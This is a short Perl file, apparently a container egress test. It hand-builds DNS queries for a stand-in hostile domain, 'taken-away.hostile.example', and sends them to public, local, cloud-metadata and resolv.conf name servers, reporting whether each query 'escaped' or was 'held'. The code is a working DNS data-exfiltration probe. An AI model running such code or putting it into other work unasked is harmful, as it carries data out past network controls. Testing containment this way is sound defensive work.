# Asks every name server that can be thought of, and those that the container names, for a name that carries data.
sub question {
  my ($name) = @_;
  return pack('n6', 0x5a4d, 0x0100, 1, 0, 0, 0) . join('', map { chr(length) . $_ } split(/\./, $name)) . "\0" . pack('n2', 1, 1);
}
sub ask_name_servers {
  my @servers = ('127.0.0.11', '127.0.0.53', '8.8.8.8', '1.1.1.1', '172.17.0.1', '169.254.169.253');
  open(my $file, '<', '/etc/resolv.conf');
  push @servers, map { /^nameserver\s+(\d+\.\d+\.\d+\.\d+)/ ? $1 : () } $file ? <$file> : ();
  for my $server (@servers) {
    socket(my $socket, AF_INET, SOCK_DGRAM, 0);
    my $sent = connect($socket, pack_sockaddr_in(53, inet_aton($server))) && send($socket, question('taken-away.hostile.example'), 0);
    if (!$sent) { held("name server $server: $!"); next }
    my $bits = '';
    vec($bits, fileno($socket), 1) = 1;
    my $answer = '';
    my $is_there = select($bits, undef, undef, 1.5) > 0 && defined recv($socket, $answer, 512, 0) && length($answer) > 0;
    if ($is_there) { escaped("name server $server answers") }
    elsif ($server !~ /^127\./) { escaped("a question left for name server $server") }
    else { held("name server $server does not answer") }
  }
}
1;
